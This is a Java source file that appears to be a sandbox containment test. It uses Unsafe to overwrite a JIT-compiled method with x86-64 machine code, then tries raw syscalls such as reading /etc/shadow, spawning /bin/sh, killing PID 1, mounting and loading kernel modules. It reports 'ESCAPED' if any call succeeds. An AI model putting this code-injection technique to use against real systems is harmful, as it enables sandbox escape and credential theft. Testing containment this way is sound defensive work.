package guests;

import java.lang.reflect.Field;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import sun.misc.Unsafe;

/**
 * Machine code of its own: written over a method that the compiler has made, with the addresses that the kernel tells.
 *
 * <p>The virtual machine is no wall against that. What the code asks of the kernel must fail all the same.
 */
final class MachineCode {
    private static final long MARK = 0x6C69676874657231L;
    /** What is sought, said so that no code but the method's own has the number in it. */
    private static long sought = ~0x6C69676874657231L;
    private static final int ENTRY_BYTES = 64;
    private static final int RESULT_AT = 56;
    /** Rounds of a turn: enough for the quick compiler, whose code is as plain as the method, and few for the other. */
    private static final int ROUNDS = 500;
    private static final int TURNS = 60;
    /** How a compiled method begins: mov [rsp - pages], eax; push rbp; or sub rsp; mov [rsp + …], rbp. */
    private static final int[][] BEGINS = {
        {0x89, 0x84, 0x24, -1, -1, -1, 0xFF, 0x55}, {0x48, 0x83, 0xEC, -1, 0x48, 0x89, 0x6C, 0x24}
    };
    private static final int BEGIN_WITHIN = 512;

    /** Makes the calls that lie at the address in the first instruction, notes what each returns, and returns. */
    private static final int[] CODE = {
        0x48, 0xBB, 0, 0, 0, 0, 0, 0, 0, 0, // mov rbx, calls
        0x48, 0x8B, 0x03, 0x48, 0x83, 0xF8, 0xFF, 0x74, 0x24, // next: mov rax, [rbx]; cmp rax, -1; je end
        0x48, 0x8B, 0x7B, 0x08, 0x48, 0x8B, 0x73, 0x10, 0x48, 0x8B, 0x53, 0x18, // mov rdi, rsi, rdx
        0x4C, 0x8B, 0x53, 0x20, 0x4C, 0x8B, 0x43, 0x28, 0x4C, 0x8B, 0x4B, 0x30, // mov r10, r8, r9
        0x0F, 0x05, 0x48, 0x89, 0x43, 0x38, // syscall; mov [rbx + 56], rax
        0x48, 0x83, 0xC3, 0x40, 0xEB, 0xD3, // add rbx, 64; jmp next
        0x48, 0xC7, 0x43, 0x38, 1, 0, 0, 0, // end: mov [rbx + 56], 1
        0xC3, // ret: all registers that it has changed are the caller's to keep
    };

    private static Unsafe unsafe;
    private static long used;

    private MachineCode() {}

    static String attempt() throws Exception {
        if (!System.getProperty("os.arch").equals("amd64")) {
            return "held: not tried on this processor";
        }
        Field field = Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        unsafe = (Unsafe) field.get(null);
        long shell = text("/bin/sh");
        long secret = text("/etc/shadow");
        Object[][] calls = {
            {"getppid", 110L},
            {"socket", 41L, 2L, 1L},
            {"openat", 257L, -100L, secret},
            {"execve", 59L, shell},
            {"ptrace", 101L, 16L, 1L},
            {"kill", 62L, 1L, 9L},
            {"mount", 165L, shell, shell},
            {"unshare", 272L, 0x1000_0000L},
            {"setns", 308L, 0L},
            {"process_vm_readv", 310L, 1L, shell, 1L, shell, 1L},
            {"bpf", 321L},
            {"perf_event_open", 298L, shell, 0L, -1L, -1L},
            {"io_uring_setup", 425L, 8L, shell},
            {"init_module", 175L, shell, 8L, shell},
            {"open_by_handle_at", 304L, 0L, shell},
            {"keyctl", 250L, 0L, -3L, 1L},
            {"userfaultfd", 323L},
        };
        long block = listed(calls);
        sought = ~sought;
        long end = block + (long) ENTRY_BYTES * calls.length + RESULT_AT;
        // It is compiled beside this thread, and perhaps again by the other compiler.
        for (int turn = 0; unsafe.getLong(end) != 1; turn++) {
            if (turn == TURNS) {
                return "no code was found that could be written over";
            }
            used += compiled();
            TimeUnit.MILLISECONDS.sleep(50);
            overwrite(block);
            target(turn);
        }
        return said(calls, block);
    }

    /** Text that ends with a zero, followed by zeros. */
    private static long text(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        long place = unsafe.allocateMemory(256);
        unsafe.setMemory(place, 256, (byte) 0);
        for (int at = 0; at < bytes.length; at++) {
            unsafe.putByte(place + at, bytes[at]);
        }
        return place;
    }

    private static long listed(Object[][] calls) {
        long block = unsafe.allocateMemory((long) ENTRY_BYTES * (calls.length + 1));
        unsafe.setMemory(block, (long) ENTRY_BYTES * (calls.length + 1), (byte) 0);
        for (int call = 0; call < calls.length; call++) {
            for (int word = 1; word < calls[call].length; word++) {
                unsafe.putLong(block + (long) ENTRY_BYTES * call + 8L * (word - 1), (Long) calls[call][word]);
            }
        }
        unsafe.putLong(block + (long) ENTRY_BYTES * calls.length, -1);
        return block;
    }

    private static long compiled() {
        long sum = 0;
        for (int round = 0; round < ROUNDS; round++) {
            sum += target(round);
        }
        return sum;
    }

    /** Finds the compiled method by a number in it, in memory that may be written and run; writes over its begin. */
    private static void overwrite(long block) throws Exception {
        for (String line : Files.readAllLines(Path.of("/proc/self/maps"))) {
            String[] words = line.split("[- ]");
            if (!words[2].startsWith("rwx")) {
                continue;
            }
            long first = Long.parseUnsignedLong(words[0], 16) + BEGIN_WITHIN;
            long end = Long.parseUnsignedLong(words[1], 16) - CODE.length;
            for (long at = first; at < end; at++) {
                long begin = unsafe.getLong(at) == sought ? begin(at) : 0;
                if (begin != 0) {
                    for (int index = 0; index < CODE.length; index++) {
                        unsafe.putByte(begin + index, (byte) CODE[index]);
                    }
                    unsafe.putLong(begin + 2, block);
                }
            }
        }
    }

    /** Where the method begins that has a number at this place; 0: not close by, so this is in another method. */
    private static long begin(long number) {
        for (long at = number - 8; at > number - BEGIN_WITHIN; at--) {
            for (int[] begin : BEGINS) {
                int same = 0;
                while (same < 8 && (begin[same] < 0 || (unsafe.getByte(at + same) & 0xFF) == begin[same])) {
                    same++;
                }
                if (same == 8) {
                    return at;
                }
            }
        }
        return 0;
    }

    /** Longer than the code that is written over it. */
    private static long target(long number) {
        long sum = number ^ MARK;
        sum += number * 0x5111_2233_4455_6671L ^ 0x5111_2233_4455_6672L;
        sum += number * 0x5111_2233_4455_6673L ^ 0x5111_2233_4455_6674L;
        sum += number * 0x5111_2233_4455_6675L ^ 0x5111_2233_4455_6676L;
        sum += number * 0x5111_2233_4455_6677L ^ 0x5111_2233_4455_6678L;
        return sum + (number * 0x5111_2233_4455_6679L ^ 0x5111_2233_4455_667AL);
    }

    private static String said(Object[][] calls, long block) {
        StringBuilder said = new StringBuilder();
        for (int call = 0; call < calls.length; call++) {
            long result = unsafe.getLong(block + (long) ENTRY_BYTES * call + RESULT_AT);
            // The first shows that the code ran, and is allowed.
            if (call == 0 ? result < 0 : result >= 0) {
                return (call == 0 ? "even " : "ESCAPED: ") + calls[call][0] + " returned " + result;
            }
            said.append(' ').append(calls[call][0]).append(' ').append(result);
        }
        return "held, and it ran:" + said;
    }
}
